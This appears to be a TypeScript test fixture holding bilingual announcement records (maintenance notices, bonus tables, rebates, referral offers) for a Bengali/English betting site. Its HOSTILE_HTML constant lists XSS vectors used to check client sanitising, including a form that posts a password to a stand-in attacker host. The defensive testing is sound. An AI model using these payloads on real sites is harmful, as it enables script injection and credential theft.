import type { Text } from "./text.ts";

/** PL plain notice, PU pop-up, PR promotion, H headline. */
export type AnnouncementType = "PL" | "PU" | "PR" | "H";

export interface AnnouncementRecord {
  id: string;
  type: AnnouncementType;
  /** Days before today on which it was published. */
  daysAgo: number;
  title: Text;
  /** HTML; clients sanitise it. */
  content: Text;
}

/**
 * HTML as an attacker who took over an operator's editor would write it: clients must show the words and run nothing.
 * Each line is one way in.
 */
export const HOSTILE_HTML = `<p>Service hours <strong>changed</strong>.</p>
<img src="x" onerror="document.documentElement.dataset.attacked='img'">
<script>document.documentElement.dataset.attacked = "script"</script>
<svg><animate onbegin="document.documentElement.dataset.attacked='svg'" attributeName="x" dur="1s"></animate></svg>
<a href="javascript:document.documentElement.dataset.attacked='link'">Read more</a>
<a href="java&#10;script:document.documentElement.dataset.attacked='split'">Hours</a>
<iframe srcdoc="<script>parent.document.documentElement.dataset.attacked='frame'</script>"></iframe>
<form action="https://attacker.example/collect"><input name="password"><button formaction="javascript:alert(1)">Confirm</button></form>
<math><mtext><table><mglyph><style><img src=x onerror="document.documentElement.dataset.attacked='mutation'"></style></mglyph></table></mtext></math>
<p style="position:fixed;inset:0;background:url(https://attacker.example/pixel)">Overlay</p>
<p id="root" class="dialog" name="body">Names that clash</p>
<p>Thank you.</p>`;

const PROMOTION_TABLE = {
  en: `<table><thead><tr><th scope="col">First deposit</th><th scope="col">Bonus</th><th scope="col">Wagering</th></tr></thead>
<tbody><tr><td>৳500.00</td><td>৳100.00</td><td>8 times</td></tr><tr><td>৳2,000.00</td><td>৳500.00</td><td>10 times</td></tr></tbody></table>`,
  bn: `<table><thead><tr><th scope="col">প্রথম জমা</th><th scope="col">বোনাস</th><th scope="col">খেলার শর্ত</th></tr></thead>
<tbody><tr><td>৳500.00</td><td>৳100.00</td><td>৮ গুণ</td></tr><tr><td>৳2,000.00</td><td>৳500.00</td><td>১০ গুণ</td></tr></tbody></table>`,
};

export const ANNOUNCEMENTS: readonly AnnouncementRecord[] = [
  {
    id: "H-3001",
    type: "H",
    daysAgo: 0,
    title: { en: "New: draws every 45 seconds in Five Star", bn: "নতুন: পঞ্চ তারায় প্রতি ৪৫ সেকেন্ডে ড্র" },
    content: {
      en: "<p>Five Star now draws every 45 seconds, day and night. Betting closes five seconds before each draw.</p>",
      bn: "<p>পঞ্চ তারায় এখন দিনরাত প্রতি ৪৫ সেকেন্ডে ড্র হয়। প্রতিটি ড্রয়ের পাঁচ সেকেন্ড আগে বাজি বন্ধ হয়।</p>",
    },
  },
  {
    id: "H-3002",
    type: "H",
    daysAgo: 1,
    title: { en: "Wallet statements now go back twelve months", bn: "ওয়ালেটের হিসাব এখন বারো মাস পর্যন্ত" },
    content: {
      en: "<p>Open your account record to see every movement of the last twelve months.</p>",
      bn: "<p>গত বারো মাসের প্রতিটি লেনদেন দেখতে অ্যাকাউন্ট রেকর্ড খুলুন।</p>",
    },
  },
  {
    id: "PL-2001",
    type: "PL",
    daysAgo: 0,
    title: { en: "Maintenance on Tuesday, 04:00 to 04:30", bn: "মঙ্গলবার ভোর ৪টা থেকে ৪:৩০ পর্যন্ত রক্ষণাবেক্ষণ" },
    content: {
      en: "<p>The site rests for thirty minutes. Rounds that are open stay open, and your balance stays as it is.</p>",
      bn: "<p>সাইট ত্রিশ মিনিট বন্ধ থাকবে। চলমান রাউন্ড ও আপনার ব্যালেন্স যেমন আছে তেমনই থাকবে।</p>",
    },
  },
  {
    id: "PL-2002",
    type: "PL",
    daysAgo: 2,
    title: { en: "Service hours", bn: "সেবার সময়" },
    content: { en: HOSTILE_HTML, bn: HOSTILE_HTML },
  },
  {
    id: "PL-2003",
    type: "PL",
    daysAgo: 3,
    title: { en: "How we check a withdrawal", bn: "আমরা কীভাবে উত্তোলন যাচাই করি" },
    content: {
      en: "<ol><li>We match the name of the account.</li><li>We send the money.</li><li>You confirm that it arrived.</li></ol>",
      bn: "<ol><li>আমরা অ্যাকাউন্টের নাম মিলিয়ে দেখি।</li><li>টাকা পাঠাই।</li><li>আপনি পাওয়া নিশ্চিত করেন।</li></ol>",
    },
  },
  {
    id: "PL-2004",
    type: "PL",
    daysAgo: 5,
    title: { en: "New games from Jade Fox Studio", bn: "জেড ফক্স স্টুডিওর নতুন গেম" },
    content: {
      en: '<p>Find them under <a href="/slot-games?tag=NEW">new games</a>.</p>',
      bn: '<p><a href="/slot-games?tag=NEW">নতুন গেম</a> পাতায় দেখুন।</p>',
    },
  },
  {
    id: "PL-2005",
    type: "PL",
    daysAgo: 8,
    title: { en: "Keep your account yours", bn: "আপনার অ্যাকাউন্ট সুরক্ষিত রাখুন" },
    content: {
      en: "<p>We never ask for your password or a code, in chat or on the phone.</p>",
      bn: "<p>চ্যাটে বা ফোনে আমরা কখনো পাসওয়ার্ড বা কোড চাই না।</p>",
    },
  },
  {
    id: "PL-2006",
    type: "PL",
    daysAgo: 12,
    title: { en: "Rules of the province draws", bn: "প্রদেশের ড্রয়ের নিয়ম" },
    content: {
      en: "<p>Southern provinces draw at 16:15, central at 17:15, northern at 18:15 Indochina Time.</p>",
      bn: "<p>ইন্দোচীন সময়ে দক্ষিণের প্রদেশ ১৬:১৫, মধ্যের ১৭:১৫ ও উত্তরের ১৮:১৫ টায় ড্র করে।</p>",
    },
  },
  {
    id: "PL-2007",
    type: "PL",
    daysAgo: 20,
    title: { en: "Languages", bn: "ভাষা" },
    content: {
      en: "<p>The site speaks Bengali and English. Choose yours in the header.</p>",
      bn: "<p>সাইটটি বাংলা ও ইংরেজিতে চলে। ওপরের অংশে আপনার ভাষা বেছে নিন।</p>",
    },
  },
  {
    id: "PU-4001",
    type: "PU",
    daysAgo: 0,
    title: { en: "Set a limit that suits you", bn: "নিজের সীমা ঠিক করুন" },
    content: {
      en: "<p>You can set deposit, loss and time limits at any moment. A lower limit starts at once.</p>",
      bn: "<p>যেকোনো সময় জমা, ক্ষতি ও সময়ের সীমা ঠিক করতে পারেন। কম সীমা সঙ্গে সঙ্গে চালু হয়।</p>",
    },
  },
  {
    id: "PR-1001",
    type: "PR",
    daysAgo: 1,
    title: { en: "A welcome for new members", bn: "নতুন সদস্যদের স্বাগত" },
    content: {
      en: `<h3>Welcome bonus</h3><p>One bonus on your first deposit, once for each member.</p>${PROMOTION_TABLE.en}<p>The bonus can be withdrawn after the wagering. It lasts 30 days.</p>`,
      bn: `<h3>স্বাগত বোনাস</h3><p>প্রথম জমায় একবার বোনাস, প্রতি সদস্যের জন্য একবার।</p>${PROMOTION_TABLE.bn}<p>শর্ত পূরণের পর বোনাস তোলা যায়। মেয়াদ ৩০ দিন।</p>`,
    },
  },
  {
    id: "PR-1002",
    type: "PR",
    daysAgo: 4,
    title: { en: "Weekend rebate on slots", bn: "সপ্তাহান্তে স্লটে রিবেট" },
    content: {
      en: "<h3>0.6% rebate</h3><p>Every Monday we return 0.6% of what you staked on slots on Friday and Saturday, without wagering.</p>",
      bn: "<h3>০.৬% রিবেট</h3><p>শুক্র ও শনিবার স্লটে মোট বাজির ০.৬% প্রতি সোমবার শর্ত ছাড়া ফেরত দেওয়া হয়।</p>",
    },
  },
  {
    id: "PR-1003",
    type: "PR",
    daysAgo: 9,
    title: { en: "Points for every bet", bn: "প্রতি বাজিতে পয়েন্ট" },
    content: {
      en: '<p>Each ৳100.00 staked earns one point. Points never expire; spend them in the <a href="/pointMall">points mall</a>.</p>',
      bn: '<p>প্রতি ৳100.00 বাজিতে এক পয়েন্ট। পয়েন্টের মেয়াদ নেই; <a href="/pointMall">পয়েন্ট মলে</a> ব্যবহার করুন।</p>',
    },
  },
  {
    id: "PR-1004",
    type: "PR",
    daysAgo: 15,
    title: { en: "Bring a friend", bn: "বন্ধুকে আনুন" },
    content: {
      en: "<p>Share your link. When your friend has played for a week, both of you get ৳200.00.</p>",
      bn: "<p>আপনার লিংক দিন। বন্ধু এক সপ্তাহ খেললে দুজনেই ৳200.00 পাবেন।</p>",
    },
  },
];
